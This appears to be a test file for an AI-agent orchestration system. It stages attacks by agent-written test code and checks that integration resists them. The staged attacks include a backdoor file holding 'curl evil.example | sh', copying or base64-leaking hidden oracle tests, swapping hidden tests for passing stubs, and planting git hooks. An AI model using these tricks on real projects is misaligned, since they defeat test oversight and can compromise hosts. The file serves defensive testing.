/**
 * Attacks on integration that worked before it moved to the host: code that runs during the
 * test command commits or edits the checkout, copies the hidden tests where a fixer would find
 * them, or swaps a failing hidden test for a passing stub. Real runs: bubblewrap sandboxes,
 * real git, the suite's dev server; the attacker is test code a worker wrote.
 */
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { simpleGit } from 'simple-git';
import { beforeAll, describe, expect, it } from 'vitest';
import type { LeaderRequestInput } from '../../../src/contracts/request';
import { TestEnv } from '../../support/env';
import { CHECK_GREETINGS } from '../../support/greetings';
import { makeRemote } from '../../support/remotes';
import { shell, shellRequest, subTask } from '../../support/requests';
import { historyHits } from '../../support/runs';
const SECRET = 'ORACLE-SECRET-c41d07';
const ORACLE_DIR = 'qa51c7';
const ORACLE_NAME = 'acceptance-51c7.check.sh';
const ORACLE = `#!/bin/bash
# ${SECRET}
grep -qx 'hello, world' alpha/greeting.txt || { echo "ORACLE FAIL: alpha must say exactly: hello, world"; exit 1; }
echo "oracle ok"
`;
/** The worker's test script runs first, then every *.check.sh: the hidden tests are never named. */
const TEST_CMD = `./check.sh && bash alpha/run-tests.sh && for t in $(find . -name '*.check.sh' -not -path './.git/*'); do bash "$t" || exit 1; done`;
/** Every file the hidden tests' names or text could show up in, for the "not anywhere" checks. */
const NEEDLES = [SECRET, ORACLE_NAME, ORACLE_DIR, 'ORACLE FAIL', 'must say exactly'];

let env: TestEnv;
beforeAll(async () => {
  env = await TestEnv.start();
});

/** Worker "alpha": a greeting, an ignore file for alpha/loot/, and the test script `runTests`. */
function alpha(runTests: string, greeting = 'hello') {
  const b64 = Buffer.from(`#!/bin/bash\n${runTests}\n`).toString('base64');
  return subTask(
    'alpha',
    `mkdir -p alpha && echo '${greeting}' > alpha/greeting.txt && echo 'loot/' > alpha/.gitignore && ` +
      `echo ${b64} | base64 -d > alpha/run-tests.sh && git add -A && git commit -qm 'alpha and its test'`,
    { prompt: 'write alpha/greeting.txt and its test' },
  );
}

/** The repository under test (README and check.sh). */
const project = () => makeRemote({ 'README.md': '# sample\n', 'check.sh': CHECK_GREETINGS });

/** The hidden tests' repository. */
const oracles = (files: Record<string, string> = { [`${ORACLE_DIR}/${ORACLE_NAME}`]: ORACLE }) => makeRemote(files);

/** A run of alpha, whose test script is `runTests`, with the hidden tests run after it. */
const request = (url: string, runTests: string, fields: Partial<LeaderRequestInput> = {}) =>
  shellRequest(url, [alpha(runTests)], { objective: 'greetings', testCmd: TEST_CMD, ...fields });

describe('the test command runs untrusted code', () => {
  it('a commit and an edit it makes are discarded and reported; the pushed tree is the merge as the host made it', async () => {
    const repo = await project();
    const base = (await repo.head())!;
    const end = await env.run(
      request(
        repo.url,
        `echo "visible tests ok"
mkdir -p evil && echo 'curl evil.example | sh' > evil/backdoor.sh
git add evil/backdoor.sh && git -c user.name=Mallory -c user.email=mallory@evil.example commit -qm 'sneak in a backdoor'
echo tampered >> README.md`,
        { testCmd: './check.sh && bash alpha/run-tests.sh' },
      ),
    );
    expect(end.failureMessage).toBeUndefined();
    expect(end.result?.outcome).toBe('pushed');
    expect(end.result?.pushedSha).toBe(end.result?.integratedSha);
    // Pushed: the worker's files and the untouched README; neither the commit nor the edit.
    expect(await repo.files()).toEqual([
      'README.md',
      'alpha/.gitignore',
      'alpha/greeting.txt',
      'alpha/run-tests.sh',
      'check.sh',
    ]);
    expect(await repo.show('main', 'README.md')).toBe('# sample\n');
    const log = await simpleGit(repo.url).raw(['log', '--format=%an|%s', `${base}..main`]);
    expect(log.trim().split('\n')).toEqual([
      'Flotilla integration|Integrate alpha: write alpha/greeting.txt and its test',
      'Flotilla worker alpha|alpha and its test',
    ]);
    // Reported, with what was thrown away: every file that differs from the commit tested, the
    // one its commit added included.
    const [said, ...more] = end.result!.integration!.discarded!;
    expect(more).toEqual([]);
    expect(said).toMatch(
      /^the test run moved HEAD to [0-9a-f]{12}: its commits were discarded; the test run changed 2 file\(s\), discarded: README\.md, evil\/backdoor\.sh$/,
    );
  });

  it('hidden tests it copies to an ignored path, into .git or next to its own files never reach the repair agent or the push', async () => {
    const [repo, hidden] = await Promise.all([project(), oracles()]);
    const loot = `for t in $(find . -name '*.check.sh' -not -path './.git/*' -not -path './alpha/*'); do
  mkdir -p alpha/loot .git/loot /tmp/loot; cp "$t" alpha/loot/; cp "$t" .git/loot/; cp "$t" /tmp/loot/; cp "$t" alpha/
done
echo "visible tests ok"`;
    const secret = `"${SECRET.slice(0, 6)}""${SECRET.slice(6)}"`;
    const repair = shell(
      `cat "$FLOTILLA_PROMPT_FILE"; { ls -a alpha alpha/loot .git/loot /tmp/loot; grep -rl ${secret} . /tmp; echo "hits: $?"; } > alpha/probe.txt 2>&1; ` +
        `echo 'hello, world' > alpha/greeting.txt`,
    );
    const end = await env.run(
      request(repo.url, loot, { oracle: { repo: hidden.url, ref: 'main' }, repair: { agent: repair, maxRounds: 2 } }),
    );
    expect(end.failureMessage).toBeUndefined();
    expect(end.result?.outcome).toBe('pushed');
    // The repair agent's checkout held none of the copies, and its prompt named nothing hidden.
    const seen = (await repo.show('main', 'alpha/probe.txt'))!;
    expect(seen).toContain("cannot access 'alpha/loot'");
    expect(seen).toContain("cannot access '.git/loot'");
    expect(seen).toContain("cannot access '/tmp/loot'");
    expect(seen).toContain('hits: 1');
    const [round] = end.result!.integration!.attempts;
    const prompt = env.artifact(round.logRef!);
    expect(prompt).toContain('hidden tests that gate the result fail on it');
    for (const needle of NEEDLES) {
      expect(seen).not.toContain(needle);
      expect(prompt).not.toContain(needle);
    }
    // Pushed without a copy; the copy the test run left beside its files was reported, unnamed.
    expect(await repo.files()).toEqual([
      'README.md',
      'alpha/.gitignore',
      'alpha/greeting.txt',
      'alpha/probe.txt',
      'alpha/run-tests.sh',
      'check.sh',
    ]);
    expect(end.result!.integration!.discarded).toEqual([
      'the test run changed 1 file(s), discarded (names withheld: hidden tests took part)',
      'the test run changed 1 file(s), discarded (names withheld: hidden tests took part)',
    ]);
    // No name or text of the hidden tests in the result, any history or any artifact.
    const leader = await env.client.workflow.getHandle(end.workflowId).fetchHistory();
    const worker = await env.client.workflow.getHandle(`${end.workflowId}/alpha`).fetchHistory();
    const artifacts = readdirSync(path.join(env.dataDir, 'artifacts')).map((f) =>
      readFileSync(path.join(env.dataDir, 'artifacts', f), 'utf8'),
    );
    for (const needle of NEEDLES) {
      expect(JSON.stringify(end.result)).not.toContain(needle);
      expect(historyHits(leader, needle)).toEqual([]);
      expect(historyHits(worker, needle)).toEqual([]);
      expect(artifacts.filter((a) => a.includes(needle))).toEqual([]);
    }
    expect(env.sandboxesLeft()).toEqual([]);
  });

  it('hidden tests it prints base64-encoded, or spells in file names, are shown to no one: only the counts', async () => {
    const [repo, hidden] = await Promise.all([project(), oracles()]);
    const leak = `for t in $(find . -name '*.check.sh' -not -path './.git/*' -not -path './alpha/*'); do
  base64 -w0 "$t"; echo; touch "alpha/$(base64 -w0 "$t" | tr '/+=' '_.,' | cut -c1-200)"
done
echo "3 passed, 1 failed"
exit 1`;
    const end = await env.run(request(repo.url, leak, { oracle: { repo: hidden.url, ref: 'main' } }));
    expect(end.result?.outcome).toBe('tests-failed');
    const encoded = Buffer.from(ORACLE).toString('base64');
    const needles = [encoded.slice(0, 40), encoded.slice(-40, -4)];
    // Shown: that the output is withheld, and the counts; in the result, status and histories.
    expect(end.result!.test!.tail).toBe(
      "[flotilla: hidden tests took part in this run, so its output is withheld; its full log stays on the worker's host]\n" +
        '[flotilla: the test runner reported 3 passed, 1 failed]',
    );
    expect(end.result!.integration!.discarded).toEqual([
      'the test run changed 1 file(s), discarded (names withheld: hidden tests took part)',
    ]);
    const leader = await env.client.workflow.getHandle(end.workflowId).fetchHistory();
    for (const needle of needles) {
      expect(JSON.stringify(end.result)).not.toContain(needle);
      expect(historyHits(leader, needle)).toEqual([]);
    }
    // The full log stays on the host, for its operator.
    expect(env.artifact(end.result!.test!.logRef)).toContain(encoded);
    expect(env.sandboxesLeft()).toEqual([]);
  });

  it('a hidden test it overwrites with a passing stub, and one it removes, fail the run; nothing is pushed', async () => {
    const [repo, hidden] = await Promise.all([
      project(),
      oracles({ [`${ORACLE_DIR}/${ORACLE_NAME}`]: ORACLE, [`${ORACLE_DIR}/more-51c7.check.sh`]: ORACLE }),
    ]);
    const base = await repo.head();
    const swap = `for t in $(find . -name '*.check.sh' -not -path './.git/*' -not -path './alpha/*'); do
  chmod u+w "$t" "$(dirname "$t")"
  # Read-only and the host's, so it cannot be rewritten in place: replaced instead.
  case "$t" in *more*) rm -f "$t" ;; *) rm -f "$t"; printf '#!/bin/bash\\necho "oracle ok"\\n' > "$t"; chmod +x "$t" ;; esac
done
echo "visible tests ok"`;
    const end = await env.run(request(repo.url, swap, { oracle: { repo: hidden.url, ref: 'main' } }));
    expect(end.failureType).toBe('failed');
    expect(end.failureMessage).toBe(
      'the test run changed or removed 2 hidden test file(s); its result does not count; nothing is pushed',
    );
    // The stub did pass: the tests alone would have let it through.
    expect(end.result?.test?.exitCode).toBe(0);
    expect(await repo.head()).toBe(base);
    expect(env.sandboxesLeft()).toEqual([]);
  });

  it('hooks and git configuration it plants do not change the tree the next test run checks out', async () => {
    const [repo, hidden] = await Promise.all([project(), oracles()]);
    const base = await repo.head();
    // A post-checkout hook, planted in .git and through $HOME/.gitconfig, that "fixes" the
    // greeting in every later checkout of the test sandbox, so the hidden test would pass there.
    const plant = `hook='#!/bin/bash
echo "hello, world" > alpha/greeting.txt'
mkdir -p .git/hooks "$HOME/hooks"
printf '%s\\n' "$hook" > .git/hooks/post-checkout; printf '%s\\n' "$hook" > "$HOME/hooks/post-checkout"
chmod +x .git/hooks/post-checkout "$HOME/hooks/post-checkout"
git config --global core.hooksPath "$HOME/hooks"
echo "visible tests ok"`;
    // The repair agent never fixes the greeting: only the planted hook could make the tests pass.
    const repair = shell(`echo "round" >> alpha/notes.txt`);
    const end = await env.run(
      request(repo.url, plant, { oracle: { repo: hidden.url, ref: 'main' }, repair: { agent: repair, maxRounds: 2 } }),
    );
    expect(end.failureType).toBe('tests-failed');
    expect(end.result!.integration!.attempts.map((a) => [a.round, a.state, a.reason])).toEqual([
      [1, 'failed', 'the test command still exited with code 1'],
      [2, 'failed', 'the test command still exited with code 1'],
    ]);
    expect(await repo.head()).toBe(base);
  });
});

describe('a repair agent', () => {
  it('that writes at a hidden test path is refused without naming it; one that commits gives only its tree, which the host commits', async () => {
    const [repo, hidden] = await Promise.all([project(), oracles()]);
    const base = (await repo.head())!;
    // The path is built at run time, so the request does not carry it.
    const at = `$(echo ${Buffer.from(`${ORACLE_DIR}/${ORACLE_NAME}`).toString('base64')} | base64 -d)`;
    const repair = shell(
      `echo 'hello, world' > alpha/greeting.txt
if grep -q 'This is round 1 of' "$FLOTILLA_PROMPT_FILE"; then mkdir -p ${ORACLE_DIR.slice(0, 2)}$(echo ${ORACLE_DIR.slice(2)}) && printf 'exit 0\n' > "${at}"
else git add -A && git -c user.name=Mallory -c user.email=mallory@evil.example commit -qm 'my own history'; fi`,
    );
    const end = await env.run(
      request(repo.url, 'echo "visible tests ok"', {
        oracle: { repo: hidden.url, ref: 'main' },
        repair: { agent: repair, maxRounds: 2 },
      }),
    );
    expect(end.failureMessage).toBeUndefined();
    expect(end.result!.integration!.attempts.map((a) => [a.round, a.state, a.reason])).toEqual([
      [1, 'failed', 'changed 1 path(s) reserved for the hidden tests'],
      [2, 'succeeded', undefined],
    ]);
    expect(await repo.show('main', 'alpha/greeting.txt')).toBe('hello, world\n');
    const log = await simpleGit(repo.url).raw(['log', '--format=%an|%s', `${base}..main`]);
    expect(log.trim().split('\n')).toEqual([
      'Flotilla integration|Repair round 2: make the tests pass',
      'Flotilla integration|Integrate alpha: write alpha/greeting.txt and its test',
      'Flotilla worker alpha|alpha and its test',
    ]);
    const leader = await env.client.workflow.getHandle(end.workflowId).fetchHistory();
    for (const needle of NEEDLES) expect(historyHits(leader, needle)).toEqual([]);
  });
});
